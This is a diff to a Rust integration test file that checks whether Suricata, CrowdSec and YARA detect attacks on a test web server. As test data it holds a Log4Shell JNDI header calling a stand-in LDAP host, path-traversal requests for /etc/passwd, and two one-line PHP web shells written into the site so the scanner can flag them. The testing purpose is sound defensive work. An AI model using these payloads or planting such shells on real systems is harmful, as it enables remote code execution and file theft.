@@ -4,10 +4,10 @@
 use std::fs;
 use std::io::{Read, Write};
 use std::net::{TcpListener, TcpStream};
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 use std::time::Duration;
 
-use hyperspector_tests::{Fleet, Recipe, TestHost, wait_until};
+use hyperspector_tests::{Fleet, Recipe, TestHost, repository, wait_until};
 
 /// Brings a recipe up on a host.
 #[track_caller]
@@ -28,11 +28,11 @@ fn serve(host: &TestHost) {
 }
 
 /// Sends a request from one host to another, and waits for the answer.
-fn request(from: &TestHost, to: &TestHost, header: &str) {
+fn request(from: &TestHost, to: &TestHost, path: &str, header: &str) {
     let address = (to.address(), 80);
     let mut stream = from.net.within(|| TcpStream::connect(address).unwrap());
     stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-    let text = format!("GET / HTTP/1.1\r\nHost: web1\r\n{header}\r\n\r\n");
+    let text = format!("GET {path} HTTP/1.1\r\nHost: web1\r\n{header}\r\n\r\n");
     stream.write_all(text.as_bytes()).unwrap();
     let _ = stream.read(&mut [0; 4096]);
 }
@@ -47,9 +47,9 @@ fn suricata_sees_an_exploit_in_a_request() {
     let threads = "Threads created -> W: 2";
     assert!(host.logs("alpha/nids").contains(threads), "{}", host.logs("alpha/nids"));
     let alerts = || host.exec("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).stdout;
-    request(attacker, host, "User-Agent: none");
+    request(attacker, host, "/", "User-Agent: none");
     wait_until("Suricata sees the exploit", || {
-        request(attacker, host, "User-Agent: ${jndi:ldap://192.0.2.66/a}");
+        request(attacker, host, "/", "User-Agent: ${jndi:ldap://192.0.2.66/a}");
         alerts().contains("JNDI lookup in a request")
     });
     assert!(alerts().contains("-> 192.0.2.11:80"), "{}", alerts());
@@ -313,8 +313,8 @@ fn ausearch_finds_who_changed_an_account_and_that_records_were_cut() {
 #[test]
 fn every_recipe_is_a_spec_without_mistakes() {
     let fleet = Fleet::new(&["web1"]);
-    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("examples");
-    let files = fs::read_dir(&examples).unwrap().flatten().map(|entry| entry.path());
+    let files =
+        fs::read_dir(repository().join("examples")).unwrap().flatten().map(|entry| entry.path());
     let specs = files.filter_map(|path| match path.extension() {
         Some(kind) if kind == "toml" => Some(path),
         _ => Some(path.join("spec.toml")).filter(|spec| spec.is_file()),
@@ -323,5 +323,41 @@ fn every_recipe_is_a_spec_without_mistakes() {
     assert!(specs.len() > 10, "{specs:?}");
     for spec in specs {
         fleet.host("web1").hyperspector(&["check", spec.to_str().unwrap()]).expect(0);
+    }
+}
+
+#[test]
+fn a_web_server_in_a_server_space_is_watched_by_three() {
+    let fleet = Fleet::new(&["web1", "attacker"]);
+    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
+    let shop = Shop::make(&fleet);
+    let examples = repository().join("examples").display().to_string();
+    let documents = format!("from = \"{}\"", shop.0.join("srv/www").display());
+    let recipe = Recipe::of("webserver")
+        .with("\"/etc/hyperspector/", &format!("\"{examples}/"))
+        .with("from = \"/srv/www\"", &documents);
+    up(host, &recipe);
+    host.wait_log("alpha/nids", "Engine started");
+    host.wait_log("alpha/crowdsec", "Starting processing data");
+    host.wait_state("alpha/yara", "waiting");
+    let printed = |portspace: &str, command: &[&str]| host.exec(portspace, command).stdout;
+
+    // nginx answers, writes its log, and both see what is asked of it.
+    wait_until("Suricata and CrowdSec see who climbs out of the document root", || {
+        for number in 0..5 {
+            request(attacker, host, &format!("/{number}/../../etc/passwd"), "User-Agent: none");
+        }
+        let alerts = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-o", "raw"];
+        printed("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).contains("path traversal")
+            && printed("alpha/crowdsec", &alerts).contains("http-path-traversal-probing")
+    });
+    // And what gets in all the same.
+    shop.write("srv/www/up.php", "<?php eval($_POST['x']);");
+    host.exec("shop", &["sh", "-c", "echo '<?php system($_GET[c]);' > /tmp/x.php"]).expect(0);
+    host.exec("alpha/yara", &["/etc/site/scan"]).expect(0);
+    let found = printed("alpha/yara", &["cat", "/var/log/yara/found.log"]);
+    for path in ["srv/www/up.php", "tmp/x.php"] {
+        let alert = format!("php_web_shell /.serverfs/shop/{path}\n");
+        assert!(found.contains(&alert), "{found}");
     }
 }
